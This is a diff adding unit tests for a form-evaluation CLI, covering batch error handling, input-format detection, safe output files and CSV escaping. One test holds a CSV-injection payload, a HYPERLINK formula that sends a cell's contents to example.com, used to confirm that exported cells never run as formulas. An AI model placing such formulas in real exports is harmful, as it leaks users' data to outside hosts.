@@ -161,9 +161,234 @@ class BatchCommand(unittest.TestCase):
         truncated = os.path.join(self.dir, "bad.pbd")
         with open(truncated, "wb") as f:
             f.write(b"\x80")
-        code, _, err = run("batch", truncated)
+        code, out, err = run("batch", truncated)  # a cut last record is one failed item
+        self.assertEqual(code, 0, err)
+        item = json.loads(out)["items"][0]
+        self.assertEqual(item["error"]["record"], "1")
+        self.assertIn("record 1: the file ends inside its length prefix", item["error"]["message"])
+        self.assertEqual(run("batch", self.forms, "--input-format", "xml")[0], 2)
+        code, _, err = run("batch", self.dir)
         self.assertEqual(code, 1)
-        self.assertIn("truncated", err)
+        self.assertIn("a directory", err)
+
+
+def varint(n):
+    out = b""
+    while True:
+        byte = n & 0x7F
+        n >>= 7
+        if n:
+            out += bytes([byte | 0x80])
+        else:
+            return out + bytes([byte])
+
+
+def geodata_pb():
+    with open(os.path.join(DATA, "zz-2021-geodata.pb"), "rb") as f:
+        return f.read()
+
+
+def delimited(*records):
+    return b"".join(varint(len(r)) + r for r in records)
+
+
+class BatchKeepsEveryGoodResult(unittest.TestCase):
+    """Issue 12: one bad record fails its own item, with its place; the rest are kept."""
+
+    def setUp(self):
+        self.dir = tempfile.mkdtemp()
+
+    def write(self, name, data):
+        path = os.path.join(self.dir, name)
+        with open(path, "wb") as f:
+            f.write(data)
+        return path
+
+    def items(self, path):
+        with open(path, encoding="utf-8") as f:
+            return [json.loads(line) for line in f.read().splitlines()]
+
+    def test_a_pbd_cut_mid_record_keeps_the_49_before_it(self):
+        form = geodata_pb()
+        forms = self.write("cut.pbd", delimited(*[form] * 49) + varint(len(form)) + form[:100])
+        out = os.path.join(self.dir, "out.jsonl")
+        code, summary, err = run("batch", forms, "--output", out, "--summary")
+        self.assertEqual(code, 0, err)
+        items = self.items(out)
+        self.assertEqual(len(items), 50)
+        self.assertTrue(all(i["result"]["total"] == "99.37" for i in items[:49]))
+        self.assertEqual(items[49]["error"]["record"], "50")
+        self.assertIn("record 50: truncated: %d bytes announced, 100 in the file" % len(form),
+                      items[49]["error"]["message"])
+        self.assertIn("组合概览 portfolio：50 个项目 forms，1 个无法评价 rejected", summary)
+        self.assertIn("无法评价 rejected（1）：\n  record 50: truncated", summary)
+
+    def test_a_corrupt_length_prefix_ends_the_stream_with_an_item_saying_so(self):
+        form = geodata_pb()
+        forms = self.write("corrupt.pbd", delimited(form, form, form) + b"\xff\xff\xff\xff\x7f" + form)
+        out = os.path.join(self.dir, "out.jsonl")
+        code, _, err = run("batch", forms, "--output", out)
+        self.assertEqual(code, 1)  # the forms after it are lost: a script must know
+        self.assertIn("record 4: its length prefix announces", err)
+        items = self.items(out)  # every earlier result kept and written
+        self.assertEqual(len(items), 4)
+        self.assertEqual([i["result"]["total"] for i in items[:3]], ["99.37"] * 3)
+        self.assertTrue(items[3]["error"]["message"].startswith("record 4: its length prefix announces"))
+        self.assertIn("the stream ends here", items[3]["error"]["message"])
+        self.assertEqual(items[3]["error"]["record"], "4")
+
+    def test_a_jsonl_line_over_the_limit_fails_only_its_own_item(self):
+        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
+            line = json.dumps(json.load(f), ensure_ascii=False).encode("utf-8") + b"\n"
+        huge = b'{"id": "' + b"x" * (64 << 20) + b'"}\n'
+        forms = self.write("big.jsonl", line + b"\n" + huge + b"not json\n" + line)
+        out = os.path.join(self.dir, "out.jsonl")
+        code, summary, err = run("batch", forms, "--output", out, "--summary")
+        self.assertEqual(code, 0, err)
+        items = self.items(out)
+        self.assertEqual(len(items), 4)
+        self.assertEqual((items[0]["result"]["total"], items[3]["result"]["total"]), ("99.37", "99.37"))
+        self.assertEqual(items[1]["error"]["record"], "3")  # blank lines are counted
+        self.assertIn("line 3: a line over 67108864 bytes", items[1]["error"]["message"])
+        self.assertEqual(items[2]["error"]["record"], "4")
+        self.assertTrue(items[2]["error"]["message"].startswith("line 4: "))
+        self.assertIn("无法评价 rejected（2）：\n  line 3: a line over", summary)
+        self.assertIn("\n  line 4: ", summary)
+
+    def test_the_summary_lists_the_first_20_rejected_and_a_count(self):
+        forms = self.write("bad.jsonl", b'{"id": "x", "scheme": "nope"}\n' * 25)
+        code, summary, err = run("batch", forms, "--summary")
+        self.assertEqual(code, 0, err)
+        self.assertIn("无法评价 rejected（25）：", summary)
+        self.assertIn("  line 20: (x) ", summary)
+        self.assertNotIn("line 21:", summary)
+        self.assertIn("  … 另有 5 个 and 5 more", summary)
+
+
+class BatchInputFormat(unittest.TestCase):
+    """Issue 12: standard input and files whose name says nothing are read by their content."""
+
+    def setUp(self):
+        self.dir = tempfile.mkdtemp()
+        self.pbd = delimited(geodata_pb(), geodata_pb())
+
+    def totals(self, out):
+        return [i["result"]["total"] for i in json.loads(out)["items"]]
+
+    def test_binary_on_standard_input_is_read_as_binary(self):
+        code, out, err = run("batch", "-", stdin=self.pbd)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.totals(out), ["99.37", "99.37"])
+        code, out, err = run("batch", "-", "--input-format", "pbd", stdin=self.pbd)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.totals(out), ["99.37", "99.37"])
+
+    def test_json_lines_and_documents_are_told_apart(self):
+        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
+            form = json.load(f)
+        line = ("  " + json.dumps(form, ensure_ascii=False) + "\n").encode("utf-8")
+        code, out, err = run("batch", "-", stdin="\ufeff".encode("utf-8") + line * 2)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.totals(out), ["99.37", "99.37"])
+        document = json.dumps({"evaluations": [form]}, indent=1).encode("utf-8")
+        code, out, err = run("batch", "-", stdin=document)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.totals(out), ["99.37"])
+        path = os.path.join(self.dir, "forms.dat")  # the name says nothing
+        with open(path, "wb") as f:
+            f.write(self.pbd)
+        code, out, err = run("batch", path)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.totals(out), ["99.37", "99.37"])
+        code, out, err = run("batch", "-", "--input-format", "jsonl", stdin=line)
+        self.assertEqual(code, 0, err)
+        self.assertEqual(self.totals(out), ["99.37"])
+
+    def test_content_that_is_neither_names_the_flag(self):
+        code, _, err = run("batch", "-", stdin=b"\xff\xfe garbage")
+        self.assertEqual(code, 2)
+        self.assertIn("--input-format json|jsonl|pbd", err)
+
+
+class OutputFiles(unittest.TestCase):
+    """Issue 12: an output appears whole, only when the run succeeds, and never over its input."""
+
+    def setUp(self):
+        self.dir = tempfile.mkdtemp()
+        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
+            self.line = json.dumps(json.load(f), ensure_ascii=False) + "\n"
+        self.forms = os.path.join(self.dir, "s.jsonl")
+        with open(self.forms, "w", encoding="utf-8") as f:
+            f.write(self.line * 3)
+
+    def content(self, path):
+        with open(path, "rb") as f:
+            return f.read()
+
+    def assertNoTemporaries(self):
+        self.assertEqual([n for n in os.listdir(self.dir) if n.startswith(".jixiao-")], [])
+
+    def test_an_output_that_is_the_input_is_refused_also_through_links(self):
+        before = self.content(self.forms)
+        os.symlink(self.forms, os.path.join(self.dir, "link.jsonl"))
+        os.link(self.forms, os.path.join(self.dir, "hard.jsonl"))
+        for output in ("s.jsonl", "link.jsonl", "hard.jsonl", "./s.jsonl"):
+            code, out, err = run("batch", self.forms, "--output", os.path.join(self.dir, output))
+            self.assertEqual(code, 2, output)
+            self.assertIn("is the input", err)
+            self.assertEqual(self.content(self.forms), before, output)
+        form = os.path.join(self.dir, "form.csv")
+        with open(GEODATA_UTF8, "rb") as f, open(form, "wb") as out:
+            out.write(f.read())
+        before = self.content(form)
+        for fmt in ("xlsx", "csv", "json"):
+            code, _, err = run("evaluate", form, "--scheme", ZHENGZHOU, "--format", fmt, "--output", form)
+            self.assertEqual(code, 2, fmt)
+            self.assertIn("is the input", err)
+            self.assertEqual(self.content(form), before, fmt)
+        code, _, err = run("import", form, "--scheme", ZHENGZHOU, "--output", form)
+        self.assertEqual(code, 2)
+        self.assertEqual(self.content(form), before)
+        self.assertNoTemporaries()
+
+    def test_a_failed_run_leaves_the_previous_output_as_it_was(self):
+        prev = os.path.join(self.dir, "prev.jsonl")
+        with open(prev, "w") as f:
+            f.write("the previous results\n")
+        code, _, err = run("batch", os.path.join(self.dir, "missing.jsonl"), "--output", prev)
+        self.assertEqual(code, 1)
+        self.assertEqual(self.content(prev), b"the previous results\n")
+        bad = os.path.join(self.dir, "bad.json")
+        with open(bad, "w") as f:
+            f.write("{not json")
+        for args in (("batch", bad), ("evaluate", bad, "--format", "xlsx"),
+                     ("evaluate", bad, "--format", "csv")):
+            code, _, _ = run(*args, "--output", prev)
+            self.assertNotEqual(code, 0, args)
+            self.assertEqual(self.content(prev), b"the previous results\n", args)
+        self.assertNoTemporaries()
+
+    def test_every_format_writes_its_output_file(self):
+        out = os.path.join(self.dir, "out.jsonl")
+        self.assertEqual(run("batch", self.forms, "--output", out)[0], 0)
+        self.assertEqual(len(self.content(out).splitlines()), 3)
+        geodata = os.path.join(DATA, "zz-2021-geodata.json")
+        for fmt, check in (("json", b'"total": "99.37"'), ("csv", b"\xef\xbb\xbf"),
+                           ("text", "总分 99.37".encode()), ("xlsx", b"PK")):
+            path = os.path.join(self.dir, "out." + fmt)
+            code, stdout, err = run("evaluate", geodata, "--format", fmt, "--output", path)
+            self.assertEqual((code, stdout), (0, ""), err)
+            self.assertIn(check, self.content(path), fmt)
+            self.assertEqual(os.stat(path).st_mode & 0o777, 0o666 & ~UMASK, fmt)
+        path = os.path.join(self.dir, "form.json")
+        self.assertEqual(run("import", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--output", path)[0], 0)
+        self.assertEqual(json.loads(self.content(path))["id"], "zz-2021-geodata")
+        self.assertEqual(run("evaluate", geodata, "--output", "/dev/null")[0], 0)  # not replaced
+        self.assertNoTemporaries()
+
+
+UMASK = os.umask(0)
+os.umask(UMASK)
 
 
 class SchemesCommand(unittest.TestCase):
@@ -258,6 +483,29 @@ class ImportCommand(unittest.TestCase):
         self.assertIn("cannot import the form (2 problems)", err)
         self.assertIn("line 3: 目标值: target \"≥\"", err)
         self.assertIn("line 4: 一级指标 \"成效\"", err)
+
+    def test_a_second_total_row_is_a_finding_in_the_review(self):
+        with open(GEODATA_UTF8, encoding="utf-8") as f:
+            csv = f.read().replace("总分,,,100,,,99.37,,", "总分,,,100,,,88.00,,\r\n合计,,,100,,,99.37,,")
+        code, out, err = run("evaluate", "-", "--scheme", ZHENGZHOU, stdin=csv.encode("utf-8"))
+        self.assertEqual(code, 0, err)
+        self.assertIn("TOTAL_MISMATCH", out)
+        self.assertIn("DUPLICATE_REPORTED  total reported twice: 88.00, then 99.37 (line 29), "
+                      "which agrees with the computed 99.37", out)
+        self.assertNotIn("复核发现：无", out)
+
+    def test_csv_output_cells_never_run_as_formulas(self):
+        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
+            form = json.load(f)
+        form["indicators"][1]["name"] = '=HYPERLINK("http://example.com/?"&A1,"点击")'
+        code, out, err = run("evaluate", "-", "--format", "csv", stdin=json.dumps(form).encode())
+        self.assertEqual(code, 0, err)
+        self.assertIn('"\'=100%"', out)  # the target, which Excel showed as 1
+        self.assertIn('"\'=HYPERLINK(""http://example.com/?""&A1,""点击"")"', out)
+        self.assertNotIn(",=", out)
+        code, out, err = run("evaluate", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--format", "csv")
+        self.assertEqual(code, 0, err)
+        self.assertIn('"\'=1200平方公里"', out)  # #NAME? in Excel before
 
     def test_parse_target_prints_the_target(self):
         code, out, _ = run("parse-target", "15%及其以下")
